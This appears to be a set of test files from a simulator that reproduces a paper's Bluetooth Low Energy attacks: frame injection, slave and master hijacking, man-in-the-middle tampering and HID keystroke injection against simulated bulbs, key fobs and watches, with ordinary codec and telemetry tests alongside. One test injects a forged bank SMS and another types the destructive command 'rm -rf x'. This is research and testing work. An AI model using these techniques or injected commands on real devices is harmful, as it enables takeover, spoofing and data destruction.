        sim, medium = world
        bulb = Lightbulb(sim, medium, "bulb")
        assert bulb.device_name_char.value == b"bulb"
