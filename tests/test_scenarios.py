"""Integration tests of the four attack scenarios (paper §VI)."""

import pytest

from repro.core.attacker import Attacker
from repro.core.scenarios import (
    IllegitimateUseScenario,
    MasterHijackScenario,
    MitmScenario,
    SlaveHijackScenario,
)
from repro.core.scenarios.scenario_b import hacked_gatt_server
from repro.devices import Keyfob, Lightbulb, Smartphone, Smartwatch
from repro.devices.smartwatch import Sms
from repro.host.att.pdus import (
    ReadByTypeRsp,
    ReadRsp,
    WriteReq,
    decode_att_pdu,
)
from repro.host.gatt.uuids import UUID_DEVICE_NAME
from repro.host.l2cap import CID_ATT, l2cap_decode, l2cap_encode
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_world(device_cls, seed, interval=36, name="victim"):
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle((name, "phone", "attacker"))
    medium = Medium(sim, topo)
    victim = device_cls(sim, medium, name)
    victim.ll.readvertise_on_disconnect = False
    phone = Smartphone(sim, medium, "phone", interval=interval)
    attacker = Attacker(sim, medium, "attacker")
    attacker.sniff_new_connections()
    victim.power_on()
    phone.connect_to(victim.address)
    sim.run(until_us=1_200_000)
    assert attacker.synchronized
    return sim, victim, phone, attacker


class TestScenarioA:
    """Illegitimately using a device functionality on all three devices."""

    def test_lightbulb_off(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=31)
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        results = []
        IllegitimateUseScenario(attacker).inject_write(
            handle, Lightbulb.power_payload(False, pad_to=5),
            on_done=results.append)
        sim.run(until_us=60_000_000)
        assert results[0].success and not bulb.is_on

    def test_lightbulb_color_and_brightness(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=32)
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        scenario = IllegitimateUseScenario(attacker)
        results = []
        scenario.inject_write(handle, Lightbulb.color_payload(255, 0, 0),
                              on_done=results.append)
        sim.run(until_us=60_000_000)
        assert results[0].success and bulb.color == (255, 0, 0)
        scenario.inject_write(handle, Lightbulb.brightness_payload(1),
                              on_done=results.append)
        sim.run(until_us=sim.now + 60_000_000)
        assert results[1].success and bulb.brightness == 1

    def test_keyfob_ring(self):
        sim, fob, phone, attacker = build_world(Keyfob, seed=33)
        handle = fob.alert_char.value_handle
        results = []
        IllegitimateUseScenario(attacker).inject_write(
            handle, Keyfob.ring_payload(), on_done=results.append,
            with_response=False)
        sim.run(until_us=60_000_000)
        assert results[0].success and fob.is_ringing

    def test_smartwatch_forged_sms(self):
        sim, watch, phone, attacker = build_world(Smartwatch, seed=34)
        handle = watch.sms_char.value_handle
        sms = Sms("Bank", "your account is locked")
        results = []
        IllegitimateUseScenario(attacker).inject_write(
            handle, sms.to_bytes(), on_done=results.append)
        sim.run(until_us=60_000_000)
        assert results[0].success
        assert watch.last_sms == sms

    def test_injected_read_request(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=35)
        handle = bulb.gatt.find_characteristic(0xFF12).value_handle
        results = []
        IllegitimateUseScenario(attacker).inject_read(
            handle, on_done=results.append)
        sim.run(until_us=60_000_000)
        assert results[0].success
        # Confidentiality impact: either captured in-band, or at minimum
        # the Slave answered (trace shows its queued Read Response).
        if results[0].response_att is not None:
            rsp = decode_att_pdu(results[0].response_att)
            assert isinstance(rsp, ReadRsp)

    def test_connection_survives_every_injection(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=36)
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        results = []
        IllegitimateUseScenario(attacker).inject_write(
            handle, Lightbulb.power_payload(False, pad_to=5),
            on_done=results.append)
        sim.run(until_us=60_000_000)
        assert results[0].success
        sim.run(until_us=sim.now + 2_000_000)
        assert phone.is_connected and bulb.ll.is_connected


class TestScenarioB:
    def test_slave_hijacked_and_name_spoofed(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=41)
        results = []
        scenario = SlaveHijackScenario(
            attacker, gatt_server=hacked_gatt_server("Hacked"))
        scenario.run(on_done=results.append)
        sim.run(until_us=15_000_000)
        assert results[0].success
        assert not bulb.ll.is_connected
        assert phone.is_connected
        names = []
        phone.host.att.read_by_type(UUID_DEVICE_NAME, names.append)
        sim.run(until_us=sim.now + 3_000_000)
        assert isinstance(names[0], ReadByTypeRsp)
        assert names[0].records[0][1] == b"Hacked"

    def test_works_on_keyfob(self):
        sim, fob, phone, attacker = build_world(Keyfob, seed=42)
        results = []
        SlaveHijackScenario(attacker,
                            gatt_server=hacked_gatt_server()).run(
            on_done=results.append)
        sim.run(until_us=15_000_000)
        assert results[0].success
        assert not fob.ll.is_connected and phone.is_connected

    def test_failure_reported_when_not_injectable(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=43)
        from repro.core.injection import InjectionConfig

        attacker.injector.config = InjectionConfig(max_attempts=1)
        # Move the attacker out of range so the single attempt fails.
        attacker.medium.topology.place("attacker", 9999.0, 9999.0)
        results = []
        SlaveHijackScenario(attacker).run(on_done=results.append)
        sim.run(until_us=60_000_000)
        assert results and not results[0].success
        assert results[0].fake_slave is None


class TestScenarioC:
    def test_master_hijack(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=51)
        reasons = []
        phone.ll.on_disconnected = reasons.append
        results = []
        MasterHijackScenario(attacker, instant_delta=40).run(
            on_done=results.append)
        sim.run(until_us=25_000_000)
        assert results[0].success
        assert bulb.ll.is_connected          # Slave follows the attacker
        assert reasons == ["supervision timeout"]  # Master starved out

    def test_attacker_drives_the_slave(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=52)
        results = []
        MasterHijackScenario(attacker, instant_delta=40).run(
            on_done=results.append)
        sim.run(until_us=15_000_000)
        assert results[0].success
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        results[0].fake_master.queue_att(
            WriteReq(handle, Lightbulb.power_payload(False)).to_bytes())
        sim.run(until_us=sim.now + 3_000_000)
        assert not bulb.is_on

    def test_new_interval_applied(self):
        sim, bulb, phone, attacker = build_world(Lightbulb, seed=53)
        results = []
        MasterHijackScenario(attacker, new_interval=75,
                             instant_delta=40).run(on_done=results.append)
        sim.run(until_us=25_000_000)
        assert results[0].success
        assert bulb.ll.conn.params.interval == 75
        assert bulb.ll.is_connected


class TestScenarioD:
    def test_mitm_relays_traffic(self):
        sim, watch, phone, attacker = build_world(Smartwatch, seed=61)
        results = []
        MitmScenario(attacker).run(on_done=results.append)
        sim.run(until_us=15_000_000)
        assert results[0].success
        handle = watch.sms_char.value_handle
        phone.send_sms_to_watch(handle, "Mom", "hello")
        sim.run(until_us=sim.now + 6_000_000)
        assert watch.inbox and watch.inbox[-1].text == "hello"
        assert phone.is_connected and watch.ll.is_connected

    def test_mitm_mutates_on_the_fly(self):
        sim, watch, phone, attacker = build_world(Smartwatch, seed=62)

        def rewrite(frame):
            try:
                cid, att = l2cap_decode(frame)
                pdu = decode_att_pdu(att)
                if isinstance(pdu, WriteReq):
                    sms = Sms.from_bytes(pdu.value)
                    return l2cap_encode(CID_ATT, WriteReq(
                        pdu.handle, Sms(sms.sender, "forged").to_bytes()
                    ).to_bytes())
            except Exception:
                pass
            return frame

        results = []
        MitmScenario(attacker, master_to_slave=rewrite).run(
            on_done=results.append)
        sim.run(until_us=15_000_000)
        assert results[0].success
        phone.send_sms_to_watch(watch.sms_char.value_handle, "Mom",
                                "original")
        sim.run(until_us=sim.now + 6_000_000)
        assert watch.inbox[-1].text == "forged"

    def test_mitm_can_drop_traffic(self):
        """§VIII: a MitM that stops forwarding = denial of service."""
        sim, watch, phone, attacker = build_world(Smartwatch, seed=63)
        results = []
        MitmScenario(attacker, master_to_slave=lambda frame: None).run(
            on_done=results.append)
        sim.run(until_us=15_000_000)
        assert results[0].success
        phone.send_sms_to_watch(watch.sms_char.value_handle, "Mom", "lost")
        sim.run(until_us=sim.now + 6_000_000)
        assert watch.inbox == []
