"""Unit tests for repro.utils.bits."""

import pytest

from repro.errors import CodecError
from repro.utils.bits import (
    bit_reverse_byte,
    bit_reverse_bytes,
    bytes_to_int_le,
    extract_bits,
    insert_bits,
    int_to_bytes_le,
)


class TestIntBytesLe:
    def test_round_trip(self):
        assert bytes_to_int_le(int_to_bytes_le(0x123456, 3)) == 0x123456

    def test_little_endian_order(self):
        assert int_to_bytes_le(0x0102, 2) == b"\x02\x01"

    def test_zero(self):
        assert int_to_bytes_le(0, 4) == b"\x00\x00\x00\x00"

    def test_max_value_fits(self):
        assert int_to_bytes_le(0xFFFFFF, 3) == b"\xff\xff\xff"

    def test_overflow_rejected(self):
        with pytest.raises(CodecError):
            int_to_bytes_le(1 << 24, 3)

    def test_negative_rejected(self):
        with pytest.raises(CodecError):
            int_to_bytes_le(-1, 2)

    def test_empty_bytes_decode_to_zero(self):
        assert bytes_to_int_le(b"") == 0


class TestBitReverse:
    def test_known_byte(self):
        assert bit_reverse_byte(0b10000000) == 0b00000001

    def test_palindrome_byte(self):
        assert bit_reverse_byte(0b10000001) == 0b10000001

    def test_involution(self):
        for value in range(256):
            assert bit_reverse_byte(bit_reverse_byte(value)) == value

    def test_bytes_keeps_byte_order(self):
        assert bit_reverse_bytes(b"\x80\x01") == b"\x01\x80"

    def test_out_of_range_rejected(self):
        with pytest.raises(CodecError):
            bit_reverse_byte(256)


class TestBitFields:
    def test_extract_low_bits(self):
        assert extract_bits(0b1011, 0, 2) == 0b11

    def test_extract_high_bits(self):
        assert extract_bits(0b1011, 2, 2) == 0b10

    def test_insert_replaces_field(self):
        assert insert_bits(0b1111, 1, 2, 0b00) == 0b1001

    def test_insert_round_trip(self):
        value = insert_bits(0, 3, 5, 0b10101)
        assert extract_bits(value, 3, 5) == 0b10101

    def test_insert_overflow_rejected(self):
        with pytest.raises(CodecError):
            insert_bits(0, 0, 2, 4)

    def test_extract_invalid_slice_rejected(self):
        with pytest.raises(CodecError):
            extract_bits(0, -1, 2)
