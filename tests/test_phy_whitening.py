"""Unit tests for BLE data whitening."""

import pytest

from repro.errors import CodecError
from repro.phy.whitening import whiten


class TestWhitening:
    def test_involution_on_every_channel(self):
        data = bytes(range(64))
        for channel in range(40):
            assert whiten(whiten(data, channel), channel) == data

    def test_changes_data(self):
        data = bytes(32)
        assert whiten(data, 0) != data

    def test_channel_dependence(self):
        data = bytes(16)
        assert whiten(data, 0) != whiten(data, 1)

    def test_empty_input(self):
        assert whiten(b"", 5) == b""

    def test_deterministic(self):
        data = b"\xa5" * 20
        assert whiten(data, 17) == whiten(data, 17)

    def test_whitening_sequence_is_keystream(self):
        # Whitening XORs a channel-keyed stream: whiten(a) ^ whiten(b) == a ^ b.
        a = bytes(range(16))
        b = bytes(reversed(range(16)))
        wa, wb = whiten(a, 9), whiten(b, 9)
        assert bytes(x ^ y for x, y in zip(wa, wb)) == \
            bytes(x ^ y for x, y in zip(a, b))

    def test_lfsr_period_127(self):
        # The 7-bit LFSR repeats every 127 bits; a zero input exposes the
        # keystream directly.
        stream = whiten(bytes(32), 3)
        bits = []
        for byte in stream:
            for i in range(8):
                bits.append((byte >> i) & 1)
        assert bits[:127] == bits[127:254]

    def test_invalid_channel_rejected(self):
        with pytest.raises(CodecError):
            whiten(b"\x00", 40)
