"""Unit tests for the ATT server and attribute database."""

import pytest

from repro.errors import HostError
from repro.host.att.opcodes import AttError, AttOpcode
from repro.host.att.pdus import (
    ErrorRsp,
    ExchangeMtuReq,
    ExchangeMtuRsp,
    FindInformationReq,
    FindInformationRsp,
    ReadByGroupTypeReq,
    ReadByGroupTypeRsp,
    ReadByTypeReq,
    ReadByTypeRsp,
    ReadReq,
    ReadRsp,
    WriteCmd,
    WriteReq,
    WriteRsp,
    decode_att_pdu,
)
from repro.host.att.server import Attribute, AttributeDb, AttServer


@pytest.fixture
def db():
    database = AttributeDb()
    database.allocate(0x2800, value=b"\x00\x18")          # handle 1
    database.allocate(0x2A00, value=b"bulb")              # handle 2
    database.allocate(0x2800, value=b"\x10\xff")          # handle 3
    database.allocate(0xFF11, value=b"", readable=False,
                      writable=True)                       # handle 4
    database.allocate(0xFF12, value=b"\x01")              # handle 5
    return database


@pytest.fixture
def server(db):
    return AttServer(db)


def ask(server, pdu):
    raw = server.handle_request(pdu.to_bytes())
    return decode_att_pdu(raw) if raw is not None else None


class TestAttributeDb:
    def test_handles_ascend(self, db):
        assert db.handles() == [1, 2, 3, 4, 5]

    def test_duplicate_handle_rejected(self, db):
        with pytest.raises(HostError):
            db.add(Attribute(handle=3, type_uuid=0x2A00))

    def test_range_query(self, db):
        assert [a.handle for a in db.in_range(2, 4)] == [2, 3, 4]

    def test_by_type(self, db):
        assert [a.handle for a in db.by_type(0x2800)] == [1, 3]


class TestReads:
    def test_read(self, server):
        assert ask(server, ReadReq(2)) == ReadRsp(b"bulb")

    def test_read_invalid_handle(self, server):
        rsp = ask(server, ReadReq(99))
        assert isinstance(rsp, ErrorRsp)
        assert rsp.error is AttError.INVALID_HANDLE

    def test_read_not_permitted(self, server):
        rsp = ask(server, ReadReq(4))
        assert isinstance(rsp, ErrorRsp)
        assert rsp.error is AttError.READ_NOT_PERMITTED

    def test_read_hook_overrides_value(self, server, db):
        db.get(5).read_hook = lambda handle: b"\x2a"
        assert ask(server, ReadReq(5)) == ReadRsp(b"\x2a")

    def test_read_truncated_to_mtu(self, db):
        db.get(2).value = bytes(100)
        server = AttServer(db, mtu=23)
        rsp = ask(server, ReadReq(2))
        assert len(rsp.value) == 22


class TestWrites:
    def test_write_updates_value(self, server, db):
        rsp = ask(server, WriteReq(4, b"\x01\x00"))
        assert rsp == WriteRsp()
        assert db.get(4).value == b"\x01\x00"

    def test_write_hook_called(self, server, db):
        calls = []
        db.get(4).write_hook = lambda handle, value: calls.append((handle,
                                                                   value))
        ask(server, WriteReq(4, b"\xaa"))
        assert calls == [(4, b"\xaa")]

    def test_write_not_permitted(self, server):
        rsp = ask(server, WriteReq(2, b"evil"))
        assert isinstance(rsp, ErrorRsp)
        assert rsp.error is AttError.WRITE_NOT_PERMITTED

    def test_write_invalid_handle(self, server):
        rsp = ask(server, WriteReq(1234, b"x"))
        assert isinstance(rsp, ErrorRsp)
        assert rsp.error is AttError.INVALID_HANDLE

    def test_write_command_has_no_response(self, server, db):
        assert ask(server, WriteCmd(4, b"\x02")) is None
        assert db.get(4).value == b"\x02"

    def test_write_command_fails_silently(self, server, db):
        assert ask(server, WriteCmd(2, b"x")) is None
        assert db.get(2).value == b"bulb"


class TestDiscovery:
    def test_exchange_mtu(self, server):
        assert ask(server, ExchangeMtuReq(185)) == ExchangeMtuRsp(23)

    def test_read_by_type_device_name(self, server):
        rsp = ask(server, ReadByTypeReq(1, 0xFFFF, 0x2A00))
        assert rsp == ReadByTypeRsp(((2, b"bulb"),))

    def test_read_by_type_not_found(self, server):
        rsp = ask(server, ReadByTypeReq(1, 0xFFFF, 0x9999))
        assert isinstance(rsp, ErrorRsp)
        assert rsp.error is AttError.ATTRIBUTE_NOT_FOUND

    def test_read_by_group_type_spans(self, server):
        rsp = ask(server, ReadByGroupTypeReq(1, 0xFFFF, 0x2800))
        assert isinstance(rsp, ReadByGroupTypeRsp)
        assert rsp.records == ((1, 2, b"\x00\x18"), (3, 5, b"\x10\xff"))

    def test_find_information(self, server):
        rsp = ask(server, FindInformationReq(1, 3))
        assert rsp == FindInformationRsp(((1, 0x2800), (2, 0x2A00),
                                          (3, 0x2800)))

    def test_find_information_not_found(self, server):
        rsp = ask(server, FindInformationReq(50, 60))
        assert isinstance(rsp, ErrorRsp)


class TestRobustness:
    def test_garbage_returns_invalid_pdu(self, server):
        raw = server.handle_request(b"\xff\x00")
        rsp = decode_att_pdu(raw)
        assert isinstance(rsp, ErrorRsp)
        assert rsp.error is AttError.INVALID_PDU

    def test_unsupported_request(self, server):
        # A response opcode sent as a request is not supported.
        raw = server.handle_request(ReadRsp(b"x").to_bytes())
        rsp = decode_att_pdu(raw)
        assert isinstance(rsp, ErrorRsp)
        assert rsp.error is AttError.REQUEST_NOT_SUPPORTED
