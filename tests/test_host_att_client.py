"""Unit tests for the ATT client: request queueing and notifications."""

import pytest

from repro.host.att.client import AttClient
from repro.host.att.pdus import (
    HandleValueCfm,
    HandleValueInd,
    HandleValueNtf,
    ReadRsp,
    ReadReq,
    WriteRsp,
    decode_att_pdu,
)


@pytest.fixture
def transport():
    sent = []
    client = AttClient(send=sent.append)
    return client, sent


class TestRequests:
    def test_read_sends_request(self, transport):
        client, sent = transport
        client.read(7, lambda pdu: None)
        assert decode_att_pdu(sent[0]) == ReadReq(7)

    def test_response_routed_to_callback(self, transport):
        client, sent = transport
        got = []
        client.read(7, got.append)
        client.on_pdu(ReadRsp(b"val").to_bytes())
        assert got == [ReadRsp(b"val")]

    def test_one_outstanding_request(self, transport):
        client, sent = transport
        client.read(1, lambda pdu: None)
        client.read(2, lambda pdu: None)
        assert len(sent) == 1  # second queued

    def test_queue_drains_in_order(self, transport):
        client, sent = transport
        answers = []
        client.read(1, lambda pdu: answers.append(("r1", pdu)))
        client.write(2, b"x", lambda ok: answers.append(("w2", ok)))
        client.read(3, lambda pdu: answers.append(("r3", pdu)))
        client.on_pdu(ReadRsp(b"a").to_bytes())
        assert len(sent) == 2
        client.on_pdu(WriteRsp().to_bytes())
        assert len(sent) == 3
        client.on_pdu(ReadRsp(b"b").to_bytes())
        assert [a[0] for a in answers] == ["r1", "w2", "r3"]

    def test_busy_flag(self, transport):
        client, _ = transport
        assert not client.busy
        client.read(1, lambda pdu: None)
        assert client.busy
        client.on_pdu(ReadRsp(b"").to_bytes())
        assert not client.busy

    def test_write_command_bypasses_queue(self, transport):
        client, sent = transport
        client.read(1, lambda pdu: None)
        client.write_command(2, b"\x01")
        assert len(sent) == 2  # command went straight out


class TestNotifications:
    def test_notification_dispatch(self, transport):
        client, _ = transport
        got = []
        client.on_notification = lambda handle, value: got.append((handle,
                                                                   value))
        client.on_pdu(HandleValueNtf(10, b"new").to_bytes())
        assert got == [(10, b"new")]

    def test_indication_confirmed(self, transport):
        client, sent = transport
        client.on_notification = lambda handle, value: None
        client.on_pdu(HandleValueInd(10, b"ind").to_bytes())
        assert decode_att_pdu(sent[-1]) == HandleValueCfm()

    def test_notification_does_not_consume_pending(self, transport):
        client, _ = transport
        got = []
        client.on_notification = lambda handle, value: None
        client.read(5, got.append)
        client.on_pdu(HandleValueNtf(9, b"n").to_bytes())
        assert got == []  # still pending
        client.on_pdu(ReadRsp(b"v").to_bytes())
        assert got == [ReadRsp(b"v")]

    def test_garbage_pdu_ignored(self, transport):
        client, _ = transport
        client.on_pdu(b"\xff\xff")  # must not raise
