"""Tests for Scenario E: HID-over-GATT keystroke injection (§IX)."""

import pytest

from repro.core.attacker import Attacker
from repro.core.scenarios.scenario_e import (
    BOOT_KEYBOARD_REPORT_MAP,
    KeystrokeInjectionScenario,
    UUID_HID_REPORT,
    UUID_HID_SERVICE,
    decode_reports,
    encode_keystroke,
    hid_keyboard_gatt_server,
)
from repro.devices import Keyfob, Smartphone
from repro.errors import AttackError
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


class TestKeystrokeEncoding:
    def test_lowercase_letter(self):
        down, up = encode_keystroke("a")
        assert down == bytes([0, 0, 0x04, 0, 0, 0, 0, 0])
        assert up == bytes(8)

    def test_uppercase_uses_shift(self):
        down, _ = encode_keystroke("A")
        assert down[0] & 0x02
        assert down[2] == 0x04

    def test_digits(self):
        down, _ = encode_keystroke("1")
        assert down[2] == 0x1E

    def test_enter(self):
        down, _ = encode_keystroke("\n")
        assert down[2] == 0x28

    def test_round_trip_sentence(self):
        text = "Hello World 123!\n"
        reports = []
        for char in text:
            down, up = encode_keystroke(char)
            reports.extend([down, up])
        assert decode_reports(reports) == text

    def test_unknown_character_rejected(self):
        with pytest.raises(AttackError):
            encode_keystroke("é")

    def test_multi_character_rejected(self):
        with pytest.raises(AttackError):
            encode_keystroke("ab")


class TestKeyboardProfile:
    def test_profile_has_hid_service(self):
        server = hid_keyboard_gatt_server()
        uuids = {s.uuid for s in server.services}
        assert UUID_HID_SERVICE in uuids

    def test_report_map_served(self):
        server = hid_keyboard_gatt_server()
        char = server.find_characteristic(0x2A4B)
        assert char.value == BOOT_KEYBOARD_REPORT_MAP

    def test_report_characteristic_notifies(self):
        server = hid_keyboard_gatt_server()
        char = server.find_characteristic(UUID_HID_REPORT)
        assert char.notify and char.cccd_handle != 0


class TestScenarioELive:
    def build(self, seed=67):
        sim = Simulator(seed=seed)
        topo = Topology.equilateral_triangle(("fob", "phone", "attacker"))
        medium = Medium(sim, topo)
        fob = Keyfob(sim, medium, "fob")
        fob.ll.readvertise_on_disconnect = False
        phone = Smartphone(sim, medium, "phone", interval=36)
        attacker = Attacker(sim, medium, "attacker")
        attacker.sniff_new_connections()
        fob.power_on()
        phone.connect_to(fob.address)
        sim.run(until_us=1_200_000)
        assert attacker.synchronized
        return sim, fob, phone, attacker

    def test_keystrokes_reach_the_master(self):
        sim, fob, phone, attacker = self.build()
        seen = []
        phone.gatt.on_notification = lambda h, v: seen.append(v)
        results = []
        scenario = KeystrokeInjectionScenario(attacker)
        scenario.run(on_done=results.append)
        sim.run(until_us=10_000_000)
        assert results[0].success
        scenario.type_text("rm -rf x\n")
        sim.run(until_us=sim.now + 10_000_000)
        assert decode_reports(seen) == "rm -rf x\n"

    def test_type_before_hijack_rejected(self):
        sim, fob, phone, attacker = self.build(seed=68)
        scenario = KeystrokeInjectionScenario(attacker)
        with pytest.raises(AttackError):
            scenario.type_text("too early")

    def test_keystroke_counter(self):
        sim, fob, phone, attacker = self.build(seed=69)
        results = []
        scenario = KeystrokeInjectionScenario(attacker)
        scenario.run(on_done=results.append)
        sim.run(until_us=10_000_000)
        scenario.type_text("ab")
        assert results[0].keystrokes_sent == 4  # 2 chars × down+up
