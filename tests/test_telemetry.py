"""Tests for the telemetry subsystem: metrics, sinks, and trace wiring."""

import io
import pickle

import pytest

from repro.experiments.common import InjectionTrial, run_single_trial
from repro.sim.simulator import Simulator
from repro.sim.trace import Trace, TraceRecord
from repro.telemetry import (
    Counter,
    Gauge,
    Histogram,
    JsonlSink,
    ListSink,
    MetricsRegistry,
    NullSink,
    RingSink,
    merge_snapshots,
    read_jsonl,
)


class TestInstruments:
    def test_counter_increments(self):
        c = Counter("tx")
        c.inc()
        c.inc(3)
        assert c.value == 4

    def test_counter_float_amounts(self):
        c = Counter("airtime")
        c.inc(40.5)
        c.inc(9.5)
        assert c.value == 50.0

    def test_gauge_last_write_wins(self):
        g = Gauge("depth")
        g.set(3.0)
        g.set(1.5)
        assert g.value == 1.5

    def test_histogram_bucket_placement(self):
        h = Histogram("attempts", (1, 2, 5))
        for v in (1, 1, 2, 3, 5, 99):
            h.observe(v)
        # bounds are inclusive upper edges; 99 overflows
        assert h.counts == [2, 1, 2, 1]
        assert h.count == 6
        assert h.total == 111

    def test_histogram_mean(self):
        h = Histogram("x", (10,))
        assert h.mean == 0.0
        h.observe(4)
        h.observe(6)
        assert h.mean == 5.0

    def test_histogram_rejects_unsorted_buckets(self):
        with pytest.raises(ValueError):
            Histogram("bad", (5, 2))
        with pytest.raises(ValueError):
            Histogram("dup", (2, 2))


class TestRegistry:
    def test_instruments_are_cached_by_name(self):
        reg = MetricsRegistry()
        assert reg.counter("a") is reg.counter("a")
        assert reg.gauge("b") is reg.gauge("b")
        assert reg.histogram("c", (1, 2)) is reg.histogram("c", (1, 2))

    def test_histogram_bucket_conflict_raises(self):
        reg = MetricsRegistry()
        reg.histogram("h", (1, 2))
        with pytest.raises(ValueError):
            reg.histogram("h", (1, 3))

    def test_disabled_registry_still_hands_out_instruments(self):
        reg = MetricsRegistry(enabled=False)
        assert not reg.enabled
        reg.counter("tx").inc()  # call sites guard; the instrument works
        assert reg.counter("tx").value == 1

    def test_snapshot_omits_untouched_instruments(self):
        reg = MetricsRegistry(enabled=True)
        reg.counter("used").inc(2)
        reg.counter("unused")
        reg.gauge("never_set")
        reg.histogram("empty", (1,))
        snap = reg.snapshot()
        assert snap["counters"] == {"used": 2}
        assert snap["gauges"] == {}
        assert snap["histograms"] == {}

    def test_snapshot_is_plain_and_picklable(self):
        reg = MetricsRegistry(enabled=True)
        reg.counter("tx").inc(5)
        reg.gauge("depth").set(2.0)
        reg.histogram("h", (1, 10)).observe(3)
        snap = reg.snapshot()
        assert pickle.loads(pickle.dumps(snap)) == snap
        assert snap["histograms"]["h"] == {
            "buckets": [1.0, 10.0], "counts": [0, 1, 0],
            "sum": 3.0, "count": 1,
        }

    def test_reset_zeroes_but_keeps_bindings(self):
        reg = MetricsRegistry(enabled=True)
        c = reg.counter("tx")
        h = reg.histogram("h", (1,))
        c.inc()
        h.observe(5)
        reg.reset()
        assert c.value == 0 and h.count == 0 and h.counts == [0, 0]
        c.inc()  # the pre-bound instrument is still live
        assert reg.snapshot()["counters"] == {"tx": 1}


class TestMergeSnapshots:
    def _snap(self, tx, depth, observations):
        reg = MetricsRegistry(enabled=True)
        reg.counter("tx").inc(tx)
        reg.gauge("depth").set(depth)
        h = reg.histogram("h", (1, 5))
        for value in observations:
            h.observe(value)
        return reg.snapshot()

    def test_counters_sum_gauges_max_histograms_add(self):
        merged = merge_snapshots([self._snap(3, 2.0, [1, 7]),
                                  self._snap(4, 9.0, [5])])
        assert merged["counters"] == {"tx": 7}
        assert merged["gauges"] == {"depth": 9.0}
        assert merged["histograms"]["h"]["counts"] == [1, 1, 1]
        assert merged["histograms"]["h"]["count"] == 3
        assert merged["histograms"]["h"]["sum"] == 13.0

    def test_none_entries_are_skipped(self):
        merged = merge_snapshots([None, self._snap(2, 1.0, []), None])
        assert merged["counters"] == {"tx": 2}

    def test_empty_merge(self):
        assert merge_snapshots([]) == {
            "counters": {}, "gauges": {}, "histograms": {}}

    def test_merge_order_independent(self):
        snaps = [self._snap(1, 1.0, [1]), self._snap(2, 5.0, [2, 9])]
        assert merge_snapshots(snaps) == merge_snapshots(reversed(snaps))

    def test_bucket_mismatch_raises(self):
        a = {"histograms": {"h": {"buckets": [1.0], "counts": [0, 1],
                                  "sum": 2.0, "count": 1}}}
        b = {"histograms": {"h": {"buckets": [2.0], "counts": [1, 0],
                                  "sum": 1.0, "count": 1}}}
        with pytest.raises(ValueError):
            merge_snapshots([a, b])


class TestSinks:
    def _record(self, t=1.0, kind="tx"):
        return TraceRecord(t, "medium", kind, {"channel": 7})

    def test_list_sink(self):
        sink = ListSink()
        sink.write(self._record())
        assert len(sink) == 1 and list(sink)[0].kind == "tx"
        sink.clear()
        assert len(sink) == 0

    def test_ring_sink_keeps_newest(self):
        sink = RingSink(max_records=2)
        for t in (1.0, 2.0, 3.0):
            sink.write(self._record(t))
        assert [r.time_us for r in sink] == [2.0, 3.0]
        assert sink.dropped == 1
        assert sink.max_records == 2

    def test_ring_sink_rejects_nonpositive_bound(self):
        with pytest.raises(ValueError):
            RingSink(0)

    def test_null_sink_discards(self):
        sink = NullSink()
        sink.write(self._record())
        sink.close()  # no state to assert; must simply not blow up

    def test_jsonl_sink_roundtrip(self, tmp_path):
        path = tmp_path / "trace.jsonl"
        with JsonlSink(path) as sink:
            sink.write(self._record(5.5, "anchor"))
            sink.write(self._record(6.0))
        assert sink.written == 2
        rows = read_jsonl(path)
        assert rows[0] == {"time_us": 5.5, "source": "medium",
                           "kind": "anchor", "detail": {"channel": 7}}
        assert rows[1]["time_us"] == 6.0

    def test_jsonl_sink_on_open_file_stays_open(self):
        buffer = io.StringIO()
        sink = JsonlSink(buffer)
        sink.write(self._record())
        sink.close()
        assert not buffer.closed and buffer.getvalue().count("\n") == 1


class TestTraceBackends:
    def test_default_is_unbounded(self):
        trace = Trace()
        assert trace.max_records is None and trace.dropped == 0
        for t in range(5):
            trace.record(float(t), "x", "k")
        assert len(trace) == 5

    def test_ring_mode_bounds_memory(self):
        trace = Trace(max_records=3)
        for t in range(10):
            trace.record(float(t), "x", "k")
        assert len(trace) == 3
        assert trace.dropped == 7
        assert [r.time_us for r in trace] == [7.0, 8.0, 9.0]
        assert trace.max_records == 3

    def test_ring_mode_query_helpers_work(self):
        trace = Trace(max_records=4)
        trace.record(1.0, "a", "tx")
        trace.record(2.0, "b", "rx")
        trace.record(3.0, "a", "tx")
        assert len(trace.filter(kind="tx", source="a")) == 2
        assert trace.last("rx").time_us == 2.0

    def test_disabled_trace_records_nothing(self):
        trace = Trace(enabled=False, max_records=5)
        trace.record(1.0, "x", "k")
        assert len(trace) == 0

    def test_sinks_receive_every_record(self):
        trace = Trace()
        tap = ListSink()
        trace.add_sink(tap)
        trace.record(1.0, "x", "k")
        trace.remove_sink(tap)
        trace.record(2.0, "x", "k")
        assert len(tap) == 1 and len(trace) == 2

    def test_streaming_jsonl_from_trace(self, tmp_path):
        path = tmp_path / "stream.jsonl"
        trace = Trace(max_records=2)  # ring forgets; the stream keeps all
        trace.add_sink(JsonlSink(path))
        for t in range(5):
            trace.record(float(t), "medium", "tx", channel=t)
        trace.close()
        rows = read_jsonl(path)
        assert [r["detail"]["channel"] for r in rows] == [0, 1, 2, 3, 4]
        assert len(trace) == 2


class TestSimulatorWiring:
    def test_simulator_owns_a_registry_disabled_by_default(self):
        simulator = Simulator(seed=1)
        assert isinstance(simulator.metrics, MetricsRegistry)
        assert not simulator.metrics.enabled

    def test_simulator_trace_ring_option(self):
        simulator = Simulator(seed=1, trace_max_records=7)
        assert simulator.trace.max_records == 7

    def test_world_metrics_flow_end_to_end(self):
        result = run_single_trial(
            InjectionTrial(seed=71_0001, hop_interval=75,
                           collect_metrics=True))
        assert result.success
        counters = result.metrics["counters"]
        assert counters["medium.tx"] > 0
